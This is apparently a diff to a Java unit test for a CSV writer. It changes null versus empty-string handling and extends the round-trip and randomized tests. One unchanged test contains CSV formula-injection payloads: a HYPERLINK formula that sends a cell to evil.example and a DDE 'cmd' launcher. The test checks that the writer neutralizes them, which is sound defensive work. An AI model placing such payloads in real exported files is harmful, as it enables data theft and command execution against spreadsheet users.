@@ -38,8 +38,9 @@ class CsvTest {
     void spacesEmptyAndNullValuesAndNonAscii() {
         // RFC 4180: spaces are part of a field, so they are kept and need no quotes.
         assertThat(Csv.line(List.of(" lead", "trail ", "  "))).isEqualTo(" lead,trail ,  \r\n");
-        // An empty value and a missing one are both an empty field: the CSV cannot tell them apart.
-        assertThat(Csv.line(Arrays.asList("", null, "x", null))).isEqualTo(",,x,\r\n");
+        // An empty value is "", a missing one an empty field, so that a reader can tell them apart.
+        assertThat(Csv.line(Arrays.asList("", null, "x", null))).isEqualTo("\"\",,x,\r\n");
+        assertThat(Csv.line(Arrays.asList(null, ""))).isEqualTo(",\"\"\r\n");
         // Characters beyond ASCII pass through untouched (the endpoint encodes the text as UTF-8).
         assertThat(Csv.line(List.of("Zoë Müller", "東京", "😀"))).isEqualTo("Zoë Müller,東京,😀\r\n");
         assertThat(Csv.line(List.of("Müller, Zoë"))).isEqualTo("\"Müller, Zoë\"\r\n");
@@ -54,12 +55,13 @@ class CsvTest {
                 List.of("3", "", "windows\r\nline break"),
                 List.of("4", "\"", ",\r\n\","),
                 List.of("5", "Straße, 東京 😀", "end\n"),
-                List.of("", "", ""));
+                List.of("", "", ""),
+                Arrays.asList(null, "", null));
         StringBuilder text = new StringBuilder();
         rows.forEach(row -> text.append(Csv.line(row)));
         assertThat(Rfc4180.parse(text.toString())).isEqualTo(rows);
-        // null reads back as the empty string.
-        assertThat(Rfc4180.parse(Csv.line(Arrays.asList("a", null, "b")))).containsExactly(List.of("a", "", "b"));
+        // null reads back as null, the empty string as the empty string.
+        assertThat(Rfc4180.parse(Csv.line(Arrays.asList("a", null, "", "b")))).containsExactly(Arrays.asList("a", null, "", "b"));
     }
 
     @Test
@@ -71,6 +73,10 @@ class CsvTest {
             List<String> row = new ArrayList<>();
             int fields = 1 + random.nextInt(6);
             for (int f = 0; f < fields; f++) {
+                if (random.nextInt(10) == 0) {
+                    row.add(null);
+                    continue;
+                }
                 StringBuilder value = new StringBuilder();
                 int length = random.nextInt(8);
                 for (int c = 0; c < length; c++) {
@@ -78,8 +84,8 @@ class CsvTest {
                 }
                 row.add(value.toString());
             }
-            if (row.size() == 1 && row.getFirst().isEmpty()) {
-                row.add("x"); // a lone empty field is a blank line, which readers commonly skip
+            if (row.size() == 1 && row.getFirst() == null) {
+                row.add("x"); // a lone missing value is a blank line, which readers commonly skip
             }
             rows.add(row);
         }
@@ -91,7 +97,7 @@ class CsvTest {
 
     /** The documented rule: a cell a spreadsheet would take for a formula is read back with a leading apostrophe. */
     private static String asASpreadsheetSafeCell(String value) {
-        return !value.isEmpty() && "=+-@\t\r".indexOf(value.charAt(0)) >= 0 ? "'" + value : value;
+        return value != null && !value.isEmpty() && "=+-@\t\r".indexOf(value.charAt(0)) >= 0 ? "'" + value : value;
     }
 
     /**
@@ -105,7 +111,7 @@ class CsvTest {
                 "\t=1+1", "=cmd|' /C calc'!A0", "a=1", "");
         String line = Csv.line(formulas);
         assertThat(line).isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1)\",'+1+1,'-2+3,'@SUM(A1:A9),"
-                + "'\t=1+1,'=cmd|' /C calc'!A0,a=1,\r\n");
+                + "'\t=1+1,'=cmd|' /C calc'!A0,a=1,\"\"\r\n");
         assertThat(Rfc4180.parse(line)).containsExactly(List.of("'=HYPERLINK(\"http://evil.example/?x=\"&A1)", "'+1+1",
                 "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'=cmd|' /C calc'!A0", "a=1", ""));
     }
